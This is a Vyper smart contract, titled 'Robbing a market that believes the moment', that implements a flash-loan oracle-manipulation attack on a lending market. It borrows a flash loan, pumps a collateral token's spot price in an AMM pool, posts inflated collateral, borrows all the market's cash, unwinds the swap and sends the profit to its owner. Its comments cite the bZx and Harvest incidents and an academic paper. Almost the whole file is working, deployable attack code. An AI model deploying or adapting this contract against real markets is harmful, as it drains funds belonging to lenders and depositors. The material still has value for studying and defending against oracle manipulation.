# pragma version ^0.4.0
"""
@title Robbing a market that believes the moment
@notice In one transaction, without own money: borrow in a flash, buy the collateral token in its pool until it looks
        many times as dear, leave some of it as collateral in a market that asks that pool for the price, borrow all
        the market has, sell the rest back, pay back the flash. The market keeps collateral worth a fraction of what
        it lent. Against a market that asks several reporters, or for an average over time, the same call undoes
        itself.
@dev The pattern of bZx (February 2020), Harvest (October 2020) and many after. Source: K. Qin, L. Zhou, B. Livshits,
     A. Gervais, "Attacking the DeFi Ecosystem with Flash Loans for Fun and Profit", 2021.
"""

from ethereum.ercs import IERC20

interface Pool:
    def token0() -> address: view
    def getReserves() -> (uint256, uint256, uint256): view
    def swap(amount0Out: uint256, amount1Out: uint256, to: address, data: Bytes[1024]): nonpayable

interface Market:
    def token() -> address: view
    def collateral_token() -> address: view
    def cash() -> uint256: view
    def add_collateral(amount: uint256): nonpayable
    def borrow(amount: uint256): nonpayable
    def flashLoan(receiver: address, asset: address, amount: uint256, data: Bytes[1024]) -> bool: nonpayable

event Robbed:
    market: indexed(address)
    gain: uint256  # in the market's token, after everything is paid back

owner: public(immutable(address))
lender: public(immutable(address))  # where the flash loan comes from
victim: public(immutable(address))
pool: public(immutable(address))
token: immutable(address)
collateral: immutable(address)


@deploy
def __init__(lender_: address, victim_: address, pool_: address):
    owner = msg.sender
    lender = lender_
    victim = victim_
    pool = pool_
    token = staticcall Market(victim_).token()
    collateral = staticcall Market(victim_).collateral_token()


@external
def attack(amount: uint256, part_kept: uint256) -> uint256:
    """
    @notice Try it with a flash loan; leave so many of 100 parts of the bought tokens as collateral.
    @return The gain, which goes to the owner. Without one all is undone.
    """
    assert msg.sender == owner, "only the owner"
    extcall Market(lender).flashLoan(self, token, amount, abi_encode(part_kept))
    gain: uint256 = staticcall IERC20(token).balanceOf(self)
    assert gain > 0, "no gain"
    assert extcall IERC20(token).transfer(owner, gain, default_return_value=True), "not transferred"
    log Robbed(market=victim, gain=gain)
    return gain


@external
def onFlashLoan(initiator: address, asset: address, amount: uint256, fee: uint256, data: Bytes[1024]) -> bytes32:
    """
    @notice What happens between borrowing and paying back.
    """
    assert msg.sender == lender and initiator == self, "not called"
    part_kept: uint256 = abi_decode(data, uint256)
    bought: uint256 = self._swap(token, amount)  # the pool now says that the collateral is dear
    kept: uint256 = bought * part_kept // 100
    extcall IERC20(collateral).approve(victim, kept)
    extcall Market(victim).add_collateral(kept)
    extcall Market(victim).borrow(staticcall Market(victim).cash())
    self._swap(collateral, bought - kept)  # and now it says what it said before, nearly
    owed: uint256 = amount + fee
    assert staticcall IERC20(token).balanceOf(self) >= owed, "no gain"
    extcall IERC20(token).approve(lender, owed)
    return keccak256("ERC3156FlashBorrower.onFlashLoan")


@internal
def _swap(token_in: address, amount: uint256) -> uint256:
    """
    @dev Sell an amount to the pool, as the router would.
    """
    reserve0: uint256 = 0
    reserve1: uint256 = 0
    time_s: uint256 = 0
    reserve0, reserve1, time_s = staticcall Pool(pool).getReserves()
    is_token0: bool = token_in == staticcall Pool(pool).token0()
    reserve_in: uint256 = reserve0 if is_token0 else reserve1
    reserve_out: uint256 = reserve1 if is_token0 else reserve0
    counted: uint256 = amount * 997
    got: uint256 = counted * reserve_out // (reserve_in * 1000 + counted)
    assert extcall IERC20(token_in).transfer(pool, amount, default_return_value=True), "not transferred"
    if is_token0:
        extcall Pool(pool).swap(0, got, self, b"")
    else:
        extcall Pool(pool).swap(got, 0, self, b"")
    return got
